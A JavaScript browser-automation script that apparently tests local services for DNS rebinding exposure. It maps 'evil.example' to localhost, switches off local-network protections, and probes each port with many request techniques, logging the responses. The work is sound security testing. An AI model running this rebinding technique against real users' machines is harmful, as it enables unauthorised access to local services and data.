// `rebinding.mjs <targets as JSON>`: a page of a name that its owner has led to this machine (DNS rebinding). Every port is
// then the page's own origin: no preflight, no `Origin`. What it is served as its own page stands in for what the attacker
// served before the name moved; everything else it asks for reaches the port. Targets: `{name, port, paths, bodies, headers}`.
// Prints, for each, what each way of asking got: a status and a text, or nothing.
import { arrive, launch } from './shop.mjs'

const NAME = 'evil.example'
const targets = JSON.parse(process.argv[2])
const wrong = []
// This browser would ask its user before a page of elsewhere reaches this machine; others do not, and users say yes.
const browser = await launch([`--host-resolver-rules=MAP ${NAME} 127.0.0.1`, '--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets'])

/// In the page: everything that a page can do with an address of its own.
async function attack({ paths, bodies, headers }) {
  const answers = []
  const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 8000, 'nothing'))])
  const note = (way, path, got) => answers.push({ way, path, ...got })
  const read = async (way, path, options) => {
    try {
      const answer = await within(fetch(path, options))
      if (answer === 'nothing') return note(way, path, {})
      note(way, path, { status: answer.status, text: (await answer.text()).slice(0, 2000), type: answer.type })
    } catch {
      note(way, path, {})
    }
  }
  const loaded = (element) => within(new Promise((resolve) => {
    element.onload = () => resolve('loaded')
    element.onerror = () => resolve('nothing')
    document.body.append(element)
  }))
  for (const path of paths) {
    for (const mode of ['same-origin', 'cors', 'no-cors']) {
      await read(`GET ${mode}`, path, { mode })
      await read(`GET ${mode} signed`, path, mode === 'no-cors' ? { mode } : { mode, headers, credentials: 'include' })
    }
    for (const method of ['HEAD', 'OPTIONS', 'POST', 'PUT', 'DELETE', 'PATCH']) {
      for (const body of method === 'POST' ? bodies : [undefined]) await read(method, path, { method, body, headers })
    }
    const request = new XMLHttpRequest()
    await within(new Promise((resolve) => {
      request.onloadend = resolve
      request.open('GET', path)
      request.send()
    }))
    note('XMLHttpRequest', path, { status: request.status || undefined, text: request.responseText })
    for (const name of ['img', 'script', 'iframe', 'embed', 'link']) {
      const element = document.createElement(name)
      if (name === 'link') element.rel = 'stylesheet'
      element[name === 'link' ? 'href' : 'src'] = path
      const how = await loaded(element)
      let text
      try {
        text = element.contentDocument?.body.innerText
      } catch {}
      note(name, path, { text, how })
    }
    for (const [method, body] of [['GET'], ...bodies.map((body) => ['POST', body])]) {
      const frame = document.createElement('iframe')
      frame.name = 'target'
      document.body.append(frame)
      const form = document.createElement('form')
      Object.assign(form, { method, action: path, target: 'target', enctype: 'text/plain' })
      const field = document.createElement('textarea')
      field.name = body ?? 'query'
      field.value = body ? '' : 'SELECT 1'
      form.append(field)
      document.body.append(form)
      const got = within(new Promise((resolve) => (frame.onload = () => resolve('loaded'))))
      form.submit()
      await got
      let text
      try {
        text = frame.contentDocument?.body.innerText
      } catch {}
      note(`form ${method}`, path, { text })
      frame.remove()
    }
    const socket = new WebSocket(path.replace(/^/, `ws://${location.host}`))
    note('WebSocket', path, { how: await within(new Promise((resolve) => {
      socket.onopen = () => resolve('open')
      socket.onerror = () => resolve('nothing')
    })) })
    const source = new EventSource(path)
    note('EventSource', path, { how: await within(new Promise((resolve) => {
      source.onopen = () => resolve('open')
      source.onerror = () => (source.close(), resolve('nothing'))
    })) })
    note('sendBeacon', path, { how: String(bodies.map((body) => navigator.sendBeacon(path, body))) })
  }
  return answers
}

const ledger = {}
try {
  await Promise.all(targets.map(async (target) => {
    const context = await arrive(browser, wrong)
    const page = await context.newPage()
    const own = `http://${NAME}:${target.port}`
    await context.route(`${own}/own-page`, (route) => route.fulfill({ contentType: 'text/html', body: '<body>mine</body>' }))
    await page.goto(`${own}/own-page`)
    const answers = await page.evaluate(attack, target)
    // And as a page of its own.
    for (const path of target.paths) {
      try {
        const answer = await page.goto(own + path)
        answers.push({ way: 'navigation', path, status: answer.status(), text: (await answer.text()).slice(0, 2000) })
      } catch {
        answers.push({ way: 'navigation', path })
      }
    }
    ledger[target.name] = answers
    await context.close()
  }))
} finally {
  await browser.close()
}
console.log(JSON.stringify(ledger))
